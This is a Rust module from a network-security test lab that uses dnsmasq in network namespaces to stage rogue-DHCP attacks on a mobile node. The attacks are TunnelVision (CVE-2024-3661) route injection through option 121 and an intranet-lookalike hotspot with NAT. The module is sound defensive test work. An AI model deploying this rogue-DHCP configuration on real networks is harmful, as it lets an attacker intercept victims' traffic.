//! Real DHCP on an outside link, for the attacks of issue 17: a rogue server (dnsmasq)
//! run by the lab's stranger (`ev`, moved onto ext-a as the hotspot's attacker), and a
//! real DHCP client in the MN's namespace (busybox `udhcpc`).
//!
//! Why udhcpc: it is one small package (`busybox`), decodes the options itself (option
//! 121 arrives at its event script as `staticroutes="net/len gw ..."`), runs one-shot in
//! the foreground (`-q`), and its event script is ours, so applying a lease touches only
//! the MN's namespace (isc-dhcp-client's Debian script also rewrites the host's
//! /etc/resolv.conf and needs a lease database in /var/lib/dhcp). The script does what
//! a typical client does with a lease: address, then RFC 3442 (with option 121 present
//! the router option is ignored) the classless routes, else a default route via the
//! router. The routes in the MN's main table come from the server's packets, decoded by
//! udhcpc, never from an `ip route add` of the test.
//!
//! dnsmasq comes from `dnsmasq-base` (the binary without the packaged service, which
//! would start a DNS server in the root namespace).

use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::netns::{self, ip, other, Result};
use crate::topo::Lab;

/// The attacker's address on ext-a.
pub const ROGUE_ADDR: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 66);
/// The intranet's domain name, as a hostile network may hand it out (MN-8: a hint that
/// proves nothing).
pub const INTRANET_DOMAIN: &str = "intranet.example.com";

/// What the rogue DHCP server hands out.
#[derive(Debug, Clone)]
pub struct RogueDhcp {
    /// The one address leased (first, last of the range are this address).
    pub lease: Ipv4Addr,
    pub prefix_len: u8,
    /// Option 3.
    pub router: Option<Ipv4Addr>,
    /// Option 121 (RFC 3442): (destination, prefix length, gateway); forced, whether or
    /// not the client asks.
    pub classless: Vec<(Ipv4Addr, u8, Ipv4Addr)>,
    /// Option 15.
    pub domain: Option<String>,
    /// Option 6.
    pub dns: Option<Ipv4Addr>,
    /// An extra address for the attacker's interface (the server's own, in the leased
    /// subnet when that is not ext-a's), which it then masquerades out to the internet.
    pub server_addr: Option<(Ipv4Addr, u8)>,
}

impl RogueDhcp {
    /// TunnelVision (CVE-2024-3661): ext-a's address for the MN, and option 121 routes
    /// through the attacker for the intranet (10.0.0.0/8) and for everything (0.0.0.0/1 +
    /// 128.0.0.0/1, more specific than any default route).
    pub fn tunnelvision() -> RogueDhcp {
        RogueDhcp {
            lease: crate::topo::Segment::ExtA.mn_addr(),
            prefix_len: 24,
            router: Some(ROGUE_ADDR),
            classless: vec![
                (Ipv4Addr::new(10, 0, 0, 0), 8, ROGUE_ADDR),
                (Ipv4Addr::new(0, 0, 0, 0), 1, ROGUE_ADDR),
                (Ipv4Addr::new(128, 0, 0, 0), 1, ROGUE_ADDR),
            ],
            domain: None,
            dns: None,
            server_addr: None,
        }
    }

    /// A hotspot that looks like the intranet: the intranet's domain name, a lease in
    /// 10.20.0.0/24 (int-a's prefix), router and DNS server 10.20.0.1.
    pub fn intranet_lookalike() -> RogueDhcp {
        let srv = Ipv4Addr::new(10, 20, 0, 1);
        RogueDhcp {
            lease: Ipv4Addr::new(10, 20, 0, 50),
            prefix_len: 24,
            router: Some(srv),
            classless: Vec::new(),
            domain: Some(INTRANET_DOMAIN.to_string()),
            dns: Some(srv),
            server_addr: Some((srv, 24)),
        }
    }
}

fn mask(len: u8) -> Ipv4Addr {
    Ipv4Addr::from(if len == 0 {
        0
    } else {
        u32::MAX << (32 - u32::from(len.min(32)))
    })
}

/// Moves the lab's stranger (`ev`, otherwise on int-b) onto ext-a as the attacker:
/// 198.51.100.66/24, default route via the internet core, forwarding on (it passes on
/// whatever its routes pull in, as TunnelVision's attacker does) and no ICMP redirects.
pub fn stranger_to_ext_a(lab: &Lab) -> Result<()> {
    let sw = lab.ns("sw");
    let ev = lab.ns("ev");
    ip(&["-n", &sw, "link", "set", "ev", "down"])?;
    ip(&["-n", &sw, "link", "set", "ev", "master", "br-exta"])?;
    ip(&["-n", &sw, "link", "set", "ev", "up"])?;
    ip(&["-n", &ev, "addr", "flush", "dev", "eth0"])?;
    ip(&[
        "-n",
        &ev,
        "addr",
        "add",
        &format!("{ROGUE_ADDR}/24"),
        "dev",
        "eth0",
    ])?;
    ip(&[
        "-n",
        &ev,
        "route",
        "replace",
        "default",
        "via",
        "198.51.100.254",
    ])?;
    netns::run(
        "ip",
        &[
            "netns",
            "exec",
            &ev,
            "sysctl",
            "-qw",
            "net.ipv4.ip_forward=1",
            "net.ipv4.conf.all.send_redirects=0",
            "net.ipv4.conf.eth0.send_redirects=0",
        ],
    )?;
    Ok(())
}

/// Starts dnsmasq (DHCP only, no DNS) in the stranger's namespace on ext-a as process
/// `rogue-dhcp`, and waits until it serves. Call [`stranger_to_ext_a`] first. A running
/// `rogue-dhcp` is stopped first (its leases stay), so the attacker can change what it
/// hands out between two leases of one client.
pub fn start_rogue(lab: &mut Lab, r: &RogueDhcp) -> Result<()> {
    lab.stop("rogue-dhcp", libc::SIGTERM);
    let _ = std::fs::remove_file(lab.log_path("rogue-dhcp"));
    let ev = lab.ns("ev");
    if let Some((a, l)) = r.server_addr {
        ip(&["-n", &ev, "addr", "add", &format!("{a}/{l}"), "dev", "eth0"])?;
        let net = format!("{}/{l}", Ipv4Addr::from(u32::from(a) & u32::from(mask(l))));
        let nat = format!(
            "table ip rogue {{\n chain post {{\n  type nat hook postrouting priority 100;\n  ip saddr {net} masquerade\n }}\n}}\n"
        );
        let path = lab.dir.join("rogue-nat.nft");
        std::fs::write(&path, nat)?;
        netns::run(
            "ip",
            &[
                "netns",
                "exec",
                &ev,
                "nft",
                "-f",
                &path.display().to_string(),
            ],
        )?;
    }
    let d = lab.dir.display();
    let mut conf = format!(
        "port=0\ninterface=eth0\nbind-interfaces\nuser=root\nno-resolv\nno-hosts\nlog-dhcp\nno-ping\n\
         dhcp-leasefile={d}/rogue.leases\npid-file={d}/rogue-dhcp.pid\ndhcp-authoritative\n\
         dhcp-range={l},{l},{m},10m\n",
        l = r.lease,
        m = mask(r.prefix_len)
    );
    match r.router {
        Some(g) => conf += &format!("dhcp-option=3,{g}\n"),
        None => conf += "dhcp-option=3\n",
    }
    if !r.classless.is_empty() {
        let routes: Vec<String> = r
            .classless
            .iter()
            .map(|(n, l, g)| format!("{n}/{l},{g}"))
            .collect();
        conf += &format!("dhcp-option-force=121,{}\n", routes.join(","));
    }
    if let Some(dom) = &r.domain {
        conf += &format!("dhcp-option=15,{dom}\ndomain={dom}\n");
    }
    if let Some(dns) = r.dns {
        conf += &format!("dhcp-option=6,{dns}\n");
    }
    let path = lab.dir.join("rogue-dnsmasq.conf");
    std::fs::write(&path, conf)?;
    let arg = format!("--conf-file={}", path.display());
    lab.spawn_prog(
        "ev",
        "rogue-dhcp",
        "dnsmasq".as_ref(),
        &["--no-daemon", &arg],
    )?;
    let t0 = Instant::now();
    while !std::fs::read_to_string(lab.log_path("rogue-dhcp"))
        .is_ok_and(|s| s.contains("DHCP, IP range"))
    {
        if !lab.is_running("rogue-dhcp") || t0.elapsed() > Duration::from_secs(5) {
            return Err(other(format!(
                "dnsmasq did not start:\n{}",
                lab.log_tail("rogue-dhcp", 10)
            )));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// The udhcpc event script (see the module comment). It records each event's
/// variables in `<lease file>.<event>`, renamed into place after the lease is applied
/// (so a waiter that sees the file sees the routes).
fn script(lease_file: &str) -> String {
    format!(
        r#"#!/bin/sh
# udhcpc event script of the mipsec lab: applies a lease as a typical client does.
# The event's record appears (atomically) only once the lease is applied.
env | grep -E '^(interface|ip|mask|subnet|router|staticroutes|domain|dns|serverid|lease)=' \
    > "{lease_file}.$1.tmp"
event="$1"
case "$1" in
deconfig)
    ip -4 addr flush dev "$interface"
    ip link set "$interface" up
    ;;
bound|renew)
    ip addr replace "$ip/$mask" dev "$interface"
    if [ -n "$staticroutes" ]; then
        # RFC 3442: with classless routes the router option is ignored.
        set -- $staticroutes
        while [ $# -ge 2 ]; do
            ip route replace "$1" via "$2" dev "$interface"
            shift 2
        done
    elif [ -n "$router" ]; then
        for r in $router; do
            ip route replace default via "$r" dev "$interface"
            break
        done
    fi
    ;;
esac
mv "{lease_file}.$event.tmp" "{lease_file}.$event"
exit 0
"#
    )
}

/// What the MN's DHCP client got (the script's record of the `bound` event).
#[derive(Debug, Clone, Default)]
pub struct Lease {
    pub vars: std::collections::BTreeMap<String, String>,
    pub took: Duration,
}

impl Lease {
    pub fn get(&self, k: &str) -> &str {
        self.vars.get(k).map(String::as_str).unwrap_or("")
    }
}

fn write_script(lab: &Lab) -> Result<(String, PathBuf)> {
    let lease_file: PathBuf = lab.dir.join("udhcpc-lease");
    let sp = lab.dir.join("udhcpc.script");
    crate::mip::write_private(&sp, &script(&lease_file.display().to_string()))?;
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&sp, std::fs::Permissions::from_mode(0o700))?;
    Ok((sp.display().to_string(), lease_file))
}

fn read_event(lease_file: &Path, event: &str) -> Option<Lease> {
    let text = std::fs::read_to_string(format!("{}.{event}", lease_file.display())).ok()?;
    let vars = text
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    Some(Lease {
        vars,
        took: Duration::ZERO,
    })
}

fn wait_event(lab: &Lab, lease_file: &Path, event: &str, t0: Instant) -> Result<Lease> {
    while t0.elapsed() < Duration::from_secs(10) {
        if let Some(mut l) = read_event(lease_file, event) {
            l.took = t0.elapsed();
            return Ok(l);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Err(other(format!(
        "udhcpc: no {event} event in 10 s:\n{}",
        lab.log_tail("udhcpc", 20)
    )))
}

/// Starts busybox udhcpc in the MN's namespace on eth0 as process `udhcpc` (it stays,
/// as a laptop's client does, and renews on SIGUSR1) and waits for its first lease.
/// Returns its pid and the lease.
pub fn start_client(lab: &mut Lab) -> Result<(u32, Lease)> {
    let (sp, lease_file) = write_script(lab)?;
    let _ = std::fs::remove_file(format!("{}.bound", lease_file.display()));
    let t0 = Instant::now();
    let pid = lab.spawn_prog(
        "mn",
        "udhcpc",
        "busybox".as_ref(),
        &[
            "udhcpc",
            "-f",
            "-i",
            "eth0",
            "-s",
            &sp,
            "-O",
            "staticroutes",
            "-t",
            "5",
            "-T",
            "1",
        ],
    )?;
    Ok((pid, wait_event(lab, &lease_file, "bound", t0)?))
}

/// Makes the client started by [`start_client`] renew its lease now (SIGUSR1) and
/// returns what the renewal carried.
pub fn renew_client(lab: &Lab, pid: u32) -> Result<Lease> {
    let lease_file: PathBuf = lab.dir.join("udhcpc-lease");
    let _ = std::fs::remove_file(format!("{}.renew", lease_file.display()));
    let t0 = Instant::now();
    netns::kill(pid as i32, libc::SIGUSR1);
    wait_event(lab, &lease_file, "renew", t0)
}

/// Runs busybox udhcpc once in the MN's namespace on eth0 (asking for option 121, as
/// common clients do) until it holds a lease, and returns the lease.
pub fn run_client(lab: &Lab) -> Result<Lease> {
    let (sp, lease_file) = write_script(lab)?;
    let _ = std::fs::remove_file(format!("{}.bound", lease_file.display()));
    let t0 = Instant::now();
    let out = netns::run(
        "ip",
        &[
            "netns",
            "exec",
            &lab.ns("mn"),
            "busybox",
            "udhcpc",
            "-f",
            "-q",
            "-n",
            "-i",
            "eth0",
            "-s",
            &sp,
            "-O",
            "staticroutes",
            "-t",
            "5",
            "-T",
            "1",
        ],
    )
    .map_err(|e| other(format!("udhcpc: {e}")))?;
    let mut l = read_event(&lease_file, "bound")
        .ok_or_else(|| other(format!("udhcpc bound no lease:\n{out}")))?;
    l.took = t0.elapsed();
    Ok(l)
}
